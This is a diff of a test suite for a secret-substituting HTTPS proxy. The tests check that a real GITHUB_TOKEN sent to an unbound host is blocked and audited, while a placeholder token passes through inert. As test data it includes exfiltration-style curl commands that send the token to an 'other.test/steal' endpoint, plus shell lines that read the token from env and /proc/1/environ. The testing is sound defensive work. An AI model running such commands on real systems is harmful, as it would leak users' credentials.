@@ -136,48 +136,55 @@ describe('TLS interception and secrets (real HTTPS upstream, curl)', () => {
     assert.equal(seen[0]?.path, `/q?token=${REAL}`);
   });
 
-  test('a placeholder or the real value headed to another (allowed) host is blocked and audited', async () => {
+  test('the real value headed to another (allowed) host is blocked and audited; a placeholder there is inert: passed on unchanged, never substituted, audited', async () => {
     seen.length = 0;
-    for (const value of [PH, REAL]) {
-      const r = await via(`https://other.test:${upPort}/steal`, ['-H', `X-Token: ${value}`, '-D', '-']);
-      assert.match(r.stdout, /^HTTP\/1\.1 403 Forbidden\r\n/);
-    }
+    const r = await via(`https://other.test:${upPort}/steal`, ['-H', `X-Token: ${REAL}`, '-D', '-']);
+    assert.match(r.stdout, /^HTTP\/1\.1 403 Forbidden\r\n/);
     const basic = await via(`https://other.test:${upPort}/steal`, ['-u', `u:${REAL}`, '-D', '-']);
     assert.match(basic.stdout, /^HTTP\/1\.1 403 Forbidden\r\n/);
-    const url = await via(`https://other.test:${upPort}/steal?t=${PH}`, ['-D', '-']);
+    const url = await via(`https://other.test:${upPort}/steal?t=${REAL}`, ['-D', '-']);
     assert.match(url.stdout, /^HTTP\/1\.1 403 Forbidden\r\n/);
-    assert.deepEqual(seen, []);
+    assert.equal(seen.length, 0);
     const blocked = audit.filter((x) => x.exfiltration === true);
-    assert.equal(blocked.length, 4);
     assert.deepEqual(blocked.map((x) => x.rule), [
-      'the placeholder of GITHUB_TOKEN headed to other.test (X-Token), which it is not bound to',
       'the real value of GITHUB_TOKEN headed to other.test (X-Token), which it is not bound to',
       'the real value of GITHUB_TOKEN headed to other.test (Authorization: Basic), which it is not bound to',
-      'a value of GITHUB_TOKEN in the URL headed to other.test, which it is not bound to',
+      'the real value of GITHUB_TOKEN in the URL headed to other.test, which it is not bound to',
     ]);
+    // The placeholder, in a header, Basic credentials and the query (in_query is on): the upstream gets it as it was.
+    const ph = await via(`https://other.test:${upPort}/inert?t=${PH}`, ['-H', `Authorization: Bearer ${PH}`, '-D', '-']);
+    assert.match(ph.stdout, /^HTTP\/1\.1 200 OK\r\n/);
+    const phBasic = await via(`https://other.test:${upPort}/inert-basic`, ['-u', `u:${PH}`]);
+    assert.equal(phBasic.code, 0);
+    assert.deepEqual(seen.map((x) => [x.path, x.auth]), [[`/inert?t=${PH}`, `Bearer ${PH}`], ['/inert-basic', `Basic ${Buffer.from(`u:${PH}`).toString('base64')}`]]);
+    const inert = audit.filter((x) => String(x.path).startsWith('/inert'));
+    assert.deepEqual(inert.map((x) => [x.decision, x.injected, x.inert]), [['allow', [], ['GITHUB_TOKEN']], ['allow', [], ['GITHUB_TOKEN']]]);
+    assert.doesNotMatch(JSON.stringify(audit), new RegExp(REAL));
   });
 
-  test('request bodies: a secret value headed to an unbound host is refused before it leaves; to the bound host the body passes unchanged', async () => {
+  test('request bodies: the real value headed to an unbound host is refused before it leaves; a placeholder there passes unchanged, as to the bound host', async () => {
     seen.length = 0;
     received = '';
     const audited = audit.length;
-    for (const value of [PH, REAL]) {
-      const r = await via(`https://other.test:${upPort}/steal`, ['--data-binary', `token=${value}`, '-D', '-']);
-      assert.match(r.stdout, /^HTTP\/1\.1 403 Forbidden\r\n/, r.stdout + r.stderr);
-    }
+    const r = await via(`https://other.test:${upPort}/steal`, ['--data-binary', `token=${REAL}`, '-D', '-']);
+    assert.match(r.stdout, /^HTTP\/1\.1 403 Forbidden\r\n/, r.stdout + r.stderr);
     assert.deepEqual([seen, received], [[], '']);
     // A value deep in a large body, split across many chunks: the upstream may see the start, never the value.
     const big = join(t.dir, 'big-body');
-    writeFileSync(big, 'a'.repeat(300_000) + PH + 'b'.repeat(1000));
+    writeFileSync(big, 'a'.repeat(300_000) + REAL + 'b'.repeat(1000));
     await via(`https://other.test:${upPort}/steal`, ['--data-binary', `@${big}`]);
     await new Promise((r) => setTimeout(r, 200));
-    assert.equal(received.includes(PH), false);
-    assert.equal(received.includes(PH.slice(0, 8)), false);
+    assert.equal(received.includes(REAL), false);
+    assert.equal(received.includes(REAL.slice(0, 12)), false);
     assert.deepEqual(audit.slice(audited).filter((x) => x.exfiltration === true).map((x) => x.rule), [
-      'the placeholder of GITHUB_TOKEN headed to other.test (request body), which it is not bound to',
       'the real value of GITHUB_TOKEN headed to other.test (request body), which it is not bound to',
-      'the placeholder of GITHUB_TOKEN headed to other.test (request body), which it is not bound to',
+      'the real value of GITHUB_TOKEN headed to other.test (request body), which it is not bound to',
     ]);
+    // A conversation's history carrying the placeholder (a tool printed `env`) goes to any allowed host as it is.
+    received = '';
+    const other = await via(`https://other.test:${upPort}/history`, ['--data-binary', `tool said: GITHUB_TOKEN=${PH}`]);
+    assert.equal(other.stdout, 'you sent  /history\n');
+    assert.equal(received, `tool said: GITHUB_TOKEN=${PH}`);
     received = '';
     const ok = await via(`https://api.test:${upPort}/post`, ['--data-binary', `token=${PH}`]);
     assert.equal(ok.stdout, 'you sent  /post\n');
@@ -270,7 +277,7 @@ describe('TLS interception and secrets (real HTTPS upstream, curl)', () => {
     seen.length = 0;
     const script = [
       `curl -sS https://api.test:${upPort}/user -H "Authorization: Bearer $GITHUB_TOKEN"`,
-      `curl -sS -o /dev/null -w '%{http_code}\\n' https://other.test:${upPort}/x -H "X-Leak: $GITHUB_TOKEN"`,
+      `curl -sS -o /dev/null -w '%{http_code}\\n' https://other.test:${upPort}/x -H "Authorization: Bearer $GITHUB_TOKEN"`,
       'env | grep -c ghp_realReal',
       'echo "$GITHUB_TOKEN"',
     ].join('; ');
@@ -278,9 +285,10 @@ describe('TLS interception and secrets (real HTTPS upstream, curl)', () => {
     const [body, code, leaked, ph] = r.stdout.split('\n');
     assert.match(ph ?? '', /^ghp_SBPH[A-Za-z0-9]{31}$/, r.stderr);
     assert.equal(body, `you sent Bearer ${ph} /user`);
-    assert.equal(code, '403');
+    // Another host gets the placeholder as it is (inert), never the real value.
+    assert.equal(code, '200');
     assert.equal(leaked, '0');
-    assert.deepEqual(seen.map((x) => [x.path, x.auth]), [['/user', `Bearer ${REAL}`]]);
+    assert.deepEqual(seen.map((x) => [x.path, x.auth]), [['/user', `Bearer ${REAL}`], ['/x', `Bearer ${ph}`]]);
   });
 
   test('through the Docker backend: the container holds the placeholder, the bound host gets the real value', needs('docker'), async () => {
@@ -300,7 +308,7 @@ describe('TLS interception and secrets (real HTTPS upstream, curl)', () => {
     seen.length = 0;
     const script = [
       `curl -sS https://api.test:${upPort}/user -H "Authorization: Bearer $GITHUB_TOKEN"`,
-      `curl -sS -o /dev/null -w '%{http_code}\\n' https://other.test:${upPort}/x -H "X-Leak: $GITHUB_TOKEN"`,
+      `curl -sS -o /dev/null -w '%{http_code}\\n' https://other.test:${upPort}/x -H "Authorization: Bearer $GITHUB_TOKEN"`,
       'grep -c ghp_realReal /proc/1/environ',
       'echo "$GITHUB_TOKEN"',
     ].join('; ');
@@ -308,9 +316,10 @@ describe('TLS interception and secrets (real HTTPS upstream, curl)', () => {
     const [body, code, leaked, ph] = r.stdout.split('\n');
     assert.match(ph ?? '', /^ghp_SBPH[A-Za-z0-9]{31}$/, r.stderr);
     assert.equal(body, `you sent Bearer ${ph} /user`);
-    assert.equal(code, '403');
+    // Another host gets the placeholder as it is (inert), never the real value.
+    assert.equal(code, '200');
     assert.equal(leaked, '0');
-    assert.deepEqual(seen.map((x) => [x.path, x.auth]), [['/user', `Bearer ${REAL}`]]);
+    assert.deepEqual(seen.map((x) => [x.path, x.auth]), [['/user', `Bearer ${REAL}`], ['/x', `Bearer ${ph}`]]);
   });
 
   test('an unreachable upstream: the 502, the proxy\'s stderr and the audit carry neither the real value nor the placeholder', async () => {
@@ -332,8 +341,8 @@ describe('TLS interception and secrets (real HTTPS upstream, curl)', () => {
       const tlsRun = await curl(['--proxy', proxyUrl, '--suppress-connect-headers', '--cacert', caFile, '-D', '-', `https://api.test/x?t=${PH}`, '-H', `Authorization: Bearer ${PH}`, '-d', `token=${PH}`]);
       const plain = await curl(['--proxy', proxyUrl, '-D', '-', 'http://api.test/x', '-H', `Authorization: Bearer ${PH}`]);
       assert.match(tlsRun.stdout, /^HTTP\/1\.1 502 Bad Gateway\r\n[\s\S]*\r\n\r\nstashbase proxy: upstream api\.test: ECONNREFUSED\n$/);
-      // In plain HTTP the placeholder is refused before any connection (allow_plaintext is off).
-      assert.match(plain.stdout, /^HTTP\/1\.1 403 Forbidden\r\n/);
+      // In plain HTTP (allow_plaintext is off) the placeholder is inert: not substituted, so only it could have gone out.
+      assert.match(plain.stdout, /^HTTP\/1\.1 502 Bad Gateway\r\n/);
       const seenText = [tlsRun.stdout, tlsRun.stderr, plain.stdout, plain.stderr, stderr.join(''), JSON.stringify(events)].join('\n');
       assert.equal(seenText.includes(REAL), false, seenText);
       assert.equal([tlsRun.stdout, plain.stdout].join('').includes(PH), false);
@@ -353,7 +362,7 @@ describe('TLS interception and secrets (real HTTPS upstream, curl)', () => {
     const r = await curl(['--proxy', `http://127.0.0.1:${(p2.address() as AddressInfo).port}`, '--suppress-connect-headers', '--cacert', caFile, '-D', '-', `https://api.test:${upPort}/x`, '-H', `Authorization: Bearer ${PH}`]);
     strict.close();
     p2.close();
-    assert.match(r.stdout, /^HTTP\/1\.1 502 Bad Gateway\r\n[\s\S]*upstream api\.test: (UNABLE_TO_VERIFY_LEAF_SIGNATURE|SELF_SIGNED_CERT_IN_CHAIN|UNABLE_TO_GET_ISSUER_CERT_LOCALLY)/);
+    assert.match(r.stdout, /^HTTP\/1\.1 502 Bad Gateway\r\n[\s\S]*upstream api\.test: TLS failure (UNABLE_TO_VERIFY_LEAF_SIGNATURE|SELF_SIGNED_CERT_IN_CHAIN|UNABLE_TO_GET_ISSUER_CERT_LOCALLY): [^\r]*network\.upstream_ca_file\r\n/);
     assert.deepEqual(seen, []);
   });
 });
@@ -455,8 +464,10 @@ describe('WebSocket upgrades through interception', () => {
   before(async () => {
     const upCa = testCa();
     const leaf = new LeafCache(upCa).get('ws.test');
+    const otherLeaf = new LeafCache(upCa).get('other.test');
     const https = await import('node:https');
-    upstream = https.createServer({ key: leaf.keyPem, cert: leaf.certPem });
+    const ctx = (l: { keyPem: string; certPem: string }) => tls.createSecureContext({ key: l.keyPem, cert: l.certPem });
+    upstream = https.createServer({ key: leaf.keyPem, cert: leaf.certPem, SNICallback: (name, cb) => cb(null, ctx(name === 'other.test' ? otherLeaf : leaf)) });
     upstream.on('upgrade', (req, socket) => {
       seen.push(`${req.url} ${req.headers.authorization} ${req.headers.upgrade}`);
       socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n');
@@ -517,10 +528,12 @@ describe('WebSocket upgrades through interception', () => {
     assert.deepEqual(seen, [`/ws Bearer ${REAL} websocket`]);
   });
 
-  test('an upgrade carrying the placeholder to another host is refused', async () => {
+  test('an upgrade carrying the real value to another host is refused; the placeholder there is inert', async () => {
     seen.length = 0;
     const out = await upgradeVia('other.test', PH);
-    assert.match(out, /^HTTP\/1\.1 403 Forbidden\r\nX-Stashbase-Denied: the placeholder of GITHUB_TOKEN headed to other\.test \(Authorization\), which it is not bound to\r\n/);
+    assert.match(out, /^HTTP\/1\.1 101 Switching Protocols\r\n/);
+    assert.deepEqual(seen, [`/ws Bearer ${PH} websocket`]);
+    seen.length = 0;
     const real = await upgradeVia('other.test', REAL);
     assert.match(real, /^HTTP\/1\.1 403 Forbidden\r\nX-Stashbase-Denied: the real value of GITHUB_TOKEN headed to other\.test \(Authorization\), which it is not bound to\r\n/);
     // Tunnelled to ws.test, where the placeholder is bound, but addressed to other.test in its Host header.
